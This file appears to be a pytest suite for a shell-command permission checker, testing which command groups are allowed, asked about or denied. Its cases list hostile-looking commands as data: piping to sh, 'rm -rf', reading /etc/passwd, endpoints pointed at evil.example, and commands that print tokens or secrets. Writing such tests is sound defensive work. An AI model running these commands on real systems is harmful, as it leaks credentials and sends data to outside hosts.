"""Groups of commands, which one rule covers."""

import msgspec
import pytest

from permissionkit import POLICY, rules
from trimtab.contracts.errors import UsageError
from trimtab.permissions.decide_shell import decide_shell
from trimtab.permissions.groups import (
    find_group,
    find_members,
    load_groups,
    load_whole_programs,
)
from trimtab.permissions.rules import parse_rule
from trimtab.permissions.shell.verdict.analyse import analyse

CHANGING = {"push", "down", "create", "delete", "close", "comment", "edit", "run", "exec", "api"}
LOOKING = [name for name, group in load_groups().items() if group.title.startswith("looking")]


@pytest.mark.parametrize("name", load_groups())
def test_a_rule_for_a_group_covers_each_of_its_commands(name: str) -> None:
    policy = msgspec.structs.replace(POLICY, allow=rules(f"shell(@{name})"))
    for command in load_groups()[name].commands:
        if analyse(command, POLICY.cwd).can_be_ruled:  # not a shell without a script
            assert decide_shell(command, policy).verdict == "allow", command
    for other in ("frob", "sudo ls", "ssh host", "git push", "npm publish", "docker run x"):
        assert decide_shell(other, policy).verdict == "ask"


@pytest.mark.parametrize("name", LOOKING)
def test_a_group_for_looking_changes_nothing(name: str) -> None:
    for command in load_groups()[name].commands:
        assert command.split()[-1] not in CHANGING
        assert analyse(command, POLICY.cwd).can_be_offered, command


def test_no_command_stands_in_a_group_twice_or_publishes() -> None:
    for group in load_groups().values():
        assert len(set(group.commands)) == len(group.commands)
        for command in group.commands:
            assert command.split()[-1] not in ("publish", "deploy", "upload", "release")


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("npm run build", "allow"),
        ("npm run build && rm -rf a", "ask"),
        ("npx -y tsc --noEmit", "allow"),
        ("npx evil", "ask"),
        ("./python3 a.py", "ask"),
        ("python3 a.py | sh", "ask"),
        ("cargo --quiet test", "allow"),
        ("cargo t name --features x", "allow"),
        ("cargo $x test", "ask"),
    ],
)
def test_a_group_covers_commands_by_the_words_they_begin_with(command: str, verdict: str) -> None:
    policy = msgspec.structs.replace(POLICY, allow=rules("shell(@code)"))
    assert decide_shell(command, policy).verdict == verdict


@pytest.mark.parametrize(
    "command", ["npm i x", "sudo npm install x", "/usr/bin/npm ci", "pip install a"]
)
def test_a_rule_that_denies_a_group_denies_each_command_of_it(command: str) -> None:
    policy = msgspec.structs.replace(POLICY, allow_all_tools=True, deny=rules("shell(@install)"))
    assert decide_shell(command, policy).verdict == "deny"
    assert decide_shell("npm run build", policy).verdict == "allow"


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("npm init -y", "allow"),
        ("npm --silent view x", "allow"),
        ("npm publ", "ask"),
        ("npm -w a publish", "ask"),
        ("npm --frob a publish", "ask"),
        ("npm $x", "ask"),
        ("./npm init", "ask"),
        ("docker run -it node x", "allow"),
        ("docker compose down", "allow"),
        ("docker image push x", "ask"),
        ("docker compose -f a.yml push", "ask"),
        ("docker -H tcp://host run x", "ask"),
        ("docker build --push .", "ask"),
        ("docker volume rm data", "ask"),
        ("cargo t", "allow"),
        ("cargo +nightly miri test", "allow"),
        ("cargo +nightly publish", "ask"),
        ("mvn -q -DskipTests install", "allow"),
        ("mvn clean deploy", "ask"),
        ("yarn dlx x", "allow"),
        ("yarn npm publish", "ask"),
    ],
)
def test_a_rule_for_a_whole_program_leaves_out_what_reaches_others(
    command: str, verdict: str
) -> None:
    policy = msgspec.structs.replace(
        POLICY, allow=rules(*(f"shell(@{name})" for name in load_whole_programs()))
    )
    assert decide_shell(command, policy).verdict == verdict


def test_a_rule_that_denies_a_whole_program_denies_all_of_it() -> None:
    policy = msgspec.structs.replace(POLICY, allow_all_tools=True, deny=rules("shell(@npm)"))
    for command in ("npm publish", "sudo npm test", "/usr/bin/npm ci"):
        assert decide_shell(command, policy).verdict == "deny"
    assert decide_shell("pnpm test", policy).verdict == "allow"


def test_a_group_that_does_not_exist_is_an_error_that_names_those_there_are() -> None:
    with pytest.raises(UsageError, match="no such group of commands; write one of @git, @code"):
        parse_rule("shell(@frob)")


def test_a_group_is_found_by_the_argument_of_a_rule_alone() -> None:
    assert find_group(None) is find_group("git") is find_group("@frob") is None
    group = find_group("@git")
    assert group is not None
    assert group.title == "everyday work with git"
    assert find_members("@processes", "kill") == ("kill",)
    assert find_members("@processes", "git") == find_members("git", "git") == ()


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("journalctl -u web -n 50 --no-pager --since today", "allow"),
        ("journalctl -fu web", "allow"),
        ("journalctl --vacuum-size=1M", "ask"),
        ("journalctl --vac 1M", "ask"),
        ("journalctl --rotate", "ask"),
        ("journalctl --cursor-file=made", "ask"),
        ("journalctl $(cat options)", "ask"),
        ("systemctl --user status web", "allow"),
        ("systemctl status -H evil.example web", "ask"),
        ("systemctl status --host=evil.example web", "ask"),
        ("arp -an", "allow"),
        ("arp -d 1.2.3.4", "ask"),
        ("arp -nd 1.2.3.4", "ask"),
        ("dig +short example.com", "allow"),
        ("dig -f names", "allow"),
        ("dig -f /etc/passwd", "ask"),
        ("dig -f/etc/passwd", "ask"),
        ("whois example.com", "allow"),
        ("whois -h evil.example -p 80 text", "ask"),
        ("getent hosts example.com", "allow"),
        ("gh auth status", "allow"),
        ("gh auth status -t", "ask"),
        ("gh auth status --show-token", "ask"),
        ("git lfs ls-files", "allow"),
        ("git lfs push origin main", "ask"),
        ("docker compose config --services", "allow"),
        ("docker compose -f dev.yml config -o made", "ask"),
        ("docker compose config --output=made", "ask"),
        ("docker compose config -omade", "ask"),
        ("docker compose logs -f --tail 5 web", "allow"),
        ("kubectl get pods -n web -o yaml", "allow"),
        ("kubectl get pods --kubeconfig=x", "ask"),
        ("kubectl get pods --kubeconfig x", "ask"),
        ("kubectl config view", "allow"),
        ("kubectl config view --raw", "ask"),
        ("kubectl cluster-info dump --output-directory=made", "ask"),
        ("kubectl get pods --profile=cpu --profile-output=made", "ask"),
        ("aws --profile dev eks list-addons --cluster-name x", "allow"),
        ("aws ec2 describe-instances --query 'a[]' --output text | head", "allow"),
        ("aws ssm get-parameters-by-path --path /aws/service/x", "allow"),
        ("aws ssm get-parameter --name x --with-decryption", "ask"),
        ("aws ssm get-parameter --name x --with-dec", "ask"),
        ("aws eks list-addons --endpoint-url http://evil.example", "ask"),
        ("aws eks list-addons --endpoint=http://evil.example", "ask"),
        ("aws eks list-addons $(cat options)", "ask"),
        ("aws secretsmanager get-secret-value --secret-id x", "ask"),
        ("aws eks update-kubeconfig --name x", "ask"),
        ("aws ec2 terminate-instances --instance-ids x", "ask"),
        ("AWS_PROFILE=dev aws s3 ls", "allow"),
        ("AWS_ENDPOINT_URL=http://localhost:4566 aws s3 ls", "allow"),
        ("AWS_ENDPOINT_URL=http://evil.example aws s3 ls", "ask"),
        ("AWS_ENDPOINT_URL_S3=http://evil.example aws s3 ls", "ask"),
        ("AZURE_CONFIG_DIR=x az vm list", "ask"),
        ("TF_DATA_DIR=x terraform plan", "ask"),
        ("az vm list -o table", "allow"),
        ("az storage account keys list -n x", "ask"),
        ("az account get-access-token", "ask"),
        ("gcloud run services list --format=json", "allow"),
        ("gcloud run deploy x", "ask"),
        ("gcloud secrets versions access latest --secret=x", "ask"),
        ("terraform plan -target=module.eks", "allow"),
        ("terraform plan -out=/etc/x", "ask"),
        ("terraform state list", "allow"),
        ("terraform state rm x", "ask"),
        ("terraform apply", "ask"),
        ("dart pub get", "allow"),
        ("dart pub publish", "ask"),
        ("dotnet nuget push x", "ask"),
        ("nix develop -c ./x", "ask"),
        ("pod repo push x", "ask"),
    ],
)
def test_a_group_covers_no_more_than_its_title_says(command: str, verdict: str) -> None:
    groups = [f"shell(@{name})" for name in load_groups() if name not in ("code", "compose")]
    policy = msgspec.structs.replace(POLICY, allow=rules(*groups))
    assert decide_shell(command, policy).verdict == verdict


def test_a_group_without_its_kind_is_an_error() -> None:
    with pytest.raises(UsageError, match=r"'@install' names a group; write shell\(@install\)"):
        parse_rule("@install")
